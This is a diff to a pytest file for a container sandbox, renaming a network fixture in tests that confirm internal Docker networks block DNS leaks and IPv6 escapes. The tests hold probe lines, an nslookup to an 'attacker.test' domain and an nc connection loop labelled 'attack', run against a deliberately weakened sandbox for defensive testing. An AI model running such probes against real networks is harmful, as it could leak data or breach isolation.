@@ -15,15 +15,15 @@ from support.docker_engine import Engine
 from support.weakened_sandbox import Proof
 
 from odek.sandbox.network.attach import inspect_networks
-from odek.sandbox.network.plan import Network, NetworkRequest
+from odek.sandbox.network.plan import NetworkPlan, NetworkRequest
 
 
 @pytest.fixture
-def attached(docker_engine: Engine, proof: Proof) -> Iterator[tuple[Network, ...]]:
+def networks(docker_engine: Engine, proof: Proof) -> Iterator[NetworkPlan]:
     """An internal network with IPv6."""
     name = f"odek-internal-{os.getpid()}"
     docker_engine.run("network", "create", "--internal", "--ipv6", "--subnet", "fd00:0d:e1::/64", name)
-    yield inspect_networks(NetworkRequest(names=(name,)), proof.boxes.docker).attached
+    yield inspect_networks(NetworkRequest(names=(name,)), proof.boxes.docker)
     proof.close()
     for box in proof.boxes._open:
         box.close()
@@ -82,16 +82,14 @@ def resolver_on_loopback(engine: Engine) -> Iterator[list[str]]:
             subprocess.run(["umount", "/etc/resolv.conf"], check=True)
 
 
-def test_names_do_not_leave_an_internal_network(
-    proof: Proof, attached: tuple[Network, ...], docker_engine: Engine
-) -> None:
+def test_names_do_not_leave_an_internal_network(proof: Proof, networks: NetworkPlan, docker_engine: Engine) -> None:
     """E4: an engine before 25.0.5 asks the host's resolver for them, which sends them on to whoever owns the domain."""
     look = "nslookup {}.attacker.test; grep nameserver /etc/resolv.conf"
     with resolver_on_loopback(docker_engine) as asked:
-        box = proof.boxes.start(attached=attached)
+        box = proof.boxes.start(networks=networks)
         inside = box.run(look.format("closed"), timeout_s=30).output.text
         none = proof.boxes.start().run(look.format("none"), timeout_s=30).output.text
-        proof.weakened("no resolver", attached=attached).output(look.format("open"))
+        proof.weakened("no resolver", networks=networks).output(look.format("open"))
     assert "nameserver 127.0.0.1\n" not in none
     assert "nameserver 127.0.0.11" in inside
     assert {name for name in asked if "open" not in name} == set()
@@ -100,7 +98,7 @@ def test_names_do_not_leave_an_internal_network(
 
 
 def test_ipv6_does_not_leave_an_internal_network(
-    proof: Proof, attached: tuple[Network, ...], docker_engine: Engine, base_image: str
+    proof: Proof, networks: NetworkPlan, docker_engine: Engine, base_image: str
 ) -> None:
     """E4: an engine before 27 filters IPv6 nowhere, so a container of another network is reached."""
     name = f"odek-outside-{os.getpid()}"
@@ -111,11 +109,11 @@ def test_ipv6_does_not_leave_an_internal_network(
         form = f'{{{{(index .NetworkSettings.Networks "{name}").GlobalIPv6Address}}}}'
         address = docker_engine.run("inspect", "--format", form, name).stdout.strip()
         attack = f"for i in 1 2 3 4; do nc -w 2 {address} 9999 </dev/null && break; sleep 1; done"
-        box = proof.boxes.start(attached=attached)
+        box = proof.boxes.start(networks=networks)
         assert "THROUGH" not in box.run(attack, timeout_s=60).output.text
         assert (box.facts.internet, proof.boxes.said) == (False, [])
         if tuple(map(int, docker_engine.version.split(".")[:2])) < (27, 0):
-            assert "THROUGH" in proof.weakened("no ipv6", attached=attached).output(attack)
+            assert "THROUGH" in proof.weakened("no ipv6", networks=networks).output(attack)
     finally:
         docker_engine.run("rm", "--force", name)
         docker_engine.run("network", "rm", name)
